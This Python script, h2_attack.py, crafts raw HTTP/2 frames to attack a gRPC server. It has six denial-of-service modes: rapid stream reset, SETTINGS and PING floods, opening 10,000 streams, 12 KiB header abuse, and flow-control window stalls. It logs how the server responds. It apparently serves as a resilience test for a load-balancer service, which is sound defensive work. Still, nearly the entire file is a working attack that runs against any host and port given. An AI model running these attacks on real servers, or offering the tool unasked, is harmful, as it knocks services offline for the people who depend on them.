#!/usr/bin/python3
"""HTTP/2 abuse against a gRPC server, written frame by frame.

Usage: h2_attack.py HOST PORT ATTACK SECONDS

ATTACK is one of:
  rapid_reset   open a Pick stream (or H2_ATTACK_PATH's method) and reset
                it at once, over and over, reconnecting whenever the
                server closes the connection
  settings_flood  send SETTINGS frames as fast as the socket takes them
  ping_flood    send PING frames as fast as the socket takes them
  many_streams  open 10 000 Pick streams on one connection, never ending
                any of them
  big_metadata  send Pick requests with a 12 KiB header, one stream at a
                time, over and over
  window_stall  open 500 Watch streams for group "web" on 10 connections
                that never grant flow-control window, and keep them open

The frames are built with hyperframe and hpack (Debian python3-h2's
dependencies) rather than h2's connection state machine, which would refuse
to break the protocol's rules. Runs for SECONDS (or until the attack is
spent) and prints one summary line to stderr:

  event=attack.done attack=... frames=N connections=N closed_by_server=N
  goaway=N rst_received=N refused=N grpc_status=...
"""

import os
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
# The method whose streams rapid_reset opens (H2_ATTACK_PATH overrides).
RESET_PATH = os.environ.get("H2_ATTACK_PATH", "/aside.v1.LoadBalancer/Pick")
REFUSED_STREAM = 0x7


class Stats:
    def __init__(self):
        self.frames = 0
        self.connections = 0
        self.closed_by_server = 0
        self.goaway = 0
        self.rst_received = 0
        self.refused = 0
        self.grpc_status = {}

    def line(self, attack):
        statuses = ",".join(
            "%s:%d" % (k, v) for k, v in sorted(self.grpc_status.items()))
        return ("event=attack.done attack=%s frames=%d connections=%d "
                "closed_by_server=%d goaway=%d rst_received=%d refused=%d "
                "grpc_status=%s" %
                (attack, self.frames, self.connections, self.closed_by_server,
                 self.goaway, self.rst_received, self.refused,
                 statuses or "none"))


class Conn:
    """One HTTP/2 connection, client side, with no rules enforced."""

    def __init__(self, host, port, stats, window=65535):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.closed = False
        self.stats = stats
        self.next_id = 1
        self.authority = "%s:%d" % (host, port)
        stats.connections += 1
        settings = SettingsFrame(0)
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = window
        self.sock.sendall(PREFACE + settings.serialize())

    def send(self, frames):
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
            self.stats.frames += len(frames)
        except OSError:
            self._mark_closed()

    def headers(self, path, end_stream=False, extra=()):
        stream_id = self.next_id
        self.next_id += 2
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", self.authority),
            ("content-type", "application/grpc"), ("te", "trailers")] +
            list(extra))
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return stream_id, frame

    def _mark_closed(self):
        if not self.closed:
            self.closed = True
            self.stats.closed_by_server += 1

    def read(self, timeout=0.0):
        """Reads what the server sent (up to `timeout` seconds of waiting),
        answers its SETTINGS, and records GOAWAY, RST_STREAM and
        grpc-status."""
        if self.closed:
            return
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self._mark_closed()
                    return
                self.buffer += data
                self._parse()
                self.sock.settimeout(0.0001)
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self._mark_closed()

    def _parse(self):
        while len(self.buffer) >= 9:
            length = struct.unpack(">I", b"\0" + self.buffer[:3])[0]
            if len(self.buffer) < 9 + length:
                return
            frame, _ = Frame.parse_frame_header(self.buffer[:9])
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.send([SettingsFrame(0, flags=["ACK"])])
            elif isinstance(frame, GoAwayFrame):
                self.stats.goaway += 1
            elif isinstance(frame, RstStreamFrame):
                self.stats.rst_received += 1
                if frame.error_code == REFUSED_STREAM:
                    self.stats.refused += 1
            elif isinstance(frame, HeadersFrame):
                try:
                    for name, value in self.decoder.decode(frame.data):
                        if name in (b"grpc-status", "grpc-status"):
                            v = value.decode() if isinstance(value,
                                                             bytes) else value
                            self.stats.grpc_status[v] = (
                                self.stats.grpc_status.get(v, 0) + 1)
                except hpack.HPACKError:
                    pass

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def grpc_message(payload):
    return b"\0" + struct.pack(">I", len(payload)) + payload


def watch_request(group):
    name = group.encode()
    return b"\x0a" + bytes([len(name)]) + name


def rapid_reset(host, port, deadline, stats):
    conn = None
    while time.time() < deadline:
        if conn is None or conn.closed:
            if conn is not None:
                conn.close()
            try:
                conn = Conn(host, port, stats)
            except OSError:
                time.sleep(0.01)
                continue
        batch = []
        for _ in range(50):
            stream_id, headers = conn.headers(RESET_PATH)
            batch.append(headers)
            batch.append(RstStreamFrame(stream_id, error_code=CANCEL))
        conn.send(batch)
        conn.read()
    if conn is not None:
        conn.close()


def flood(host, port, deadline, stats, make_frame):
    conn = None
    while time.time() < deadline:
        if conn is None or conn.closed:
            if conn is not None:
                conn.close()
            try:
                conn = Conn(host, port, stats)
            except OSError:
                time.sleep(0.01)
                continue
        conn.send([make_frame() for _ in range(100)])
        conn.read()
    if conn is not None:
        conn.close()


def settings_frame():
    frame = SettingsFrame(0)
    frame.settings[SettingsFrame.MAX_CONCURRENT_STREAMS] = 100
    return frame


def ping_frame():
    return PingFrame(0, opaque_data=b"abuse!!!")


def many_streams(host, port, deadline, stats):
    conn = Conn(host, port, stats)
    opened = 0
    while opened < 10000 and time.time() < deadline and not conn.closed:
        batch = []
        for _ in range(100):
            _, headers = conn.headers("/aside.v1.LoadBalancer/Pick")
            batch.append(headers)
        conn.send(batch)
        opened += len(batch)
        conn.read()
    # Keep the streams open and read what the server says about them.
    while time.time() < deadline and not conn.closed:
        conn.read(timeout=0.2)
    print("event=attack.opened streams=%d" % opened, file=sys.stderr)
    conn.close()


def big_metadata(host, port, deadline, stats):
    body = grpc_message(b"\x0a\x03web")  # PickRequest{group: "web"}
    conn = None
    while time.time() < deadline:
        if conn is None or conn.closed:
            if conn is not None:
                conn.close()
            try:
                conn = Conn(host, port, stats)
            except OSError:
                time.sleep(0.01)
                continue
        stream_id, headers = conn.headers(
            "/aside.v1.LoadBalancer/Pick", extra=[("x-big", "v" * 12288)])
        data = DataFrame(stream_id, body)
        data.flags.add("END_STREAM")
        conn.send([headers, data])
        conn.read(timeout=0.05)
    if conn is not None:
        conn.close()


def window_stall(host, port, deadline, stats):
    # The smallest window HTTP/2 allows the peer to start with, and never a
    # WINDOW_UPDATE: the server cannot send the table.
    conns = []
    body = grpc_message(watch_request("web"))
    for _ in range(10):
        try:
            conn = Conn(host, port, stats, window=0)
        except OSError:
            break
        conns.append(conn)
        batch = []
        for _ in range(50):
            stream_id, headers = conn.headers("/aside.v1.LoadBalancer/Watch")
            data = DataFrame(stream_id, body)
            data.flags.add("END_STREAM")
            batch += [headers, data]
        conn.send(batch)
    while time.time() < deadline:
        for conn in conns:
            conn.read(timeout=0.05)
    for conn in conns:
        conn.close()


def main():
    if len(sys.argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    host, port, attack, seconds = (sys.argv[1], int(sys.argv[2]),
                                   sys.argv[3], float(sys.argv[4]))
    deadline = time.time() + seconds
    stats = Stats()
    print("event=attack.started attack=%s" % attack, file=sys.stderr)
    sys.stderr.flush()
    if attack == "rapid_reset":
        rapid_reset(host, port, deadline, stats)
    elif attack == "settings_flood":
        flood(host, port, deadline, stats, settings_frame)
    elif attack == "ping_flood":
        flood(host, port, deadline, stats, ping_frame)
    elif attack == "many_streams":
        many_streams(host, port, deadline, stats)
    elif attack == "big_metadata":
        big_metadata(host, port, deadline, stats)
    elif attack == "window_stall":
        window_stall(host, port, deadline, stats)
    else:
        print("unknown attack '%s'" % attack, file=sys.stderr)
        return 2
    print(stats.line(attack), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
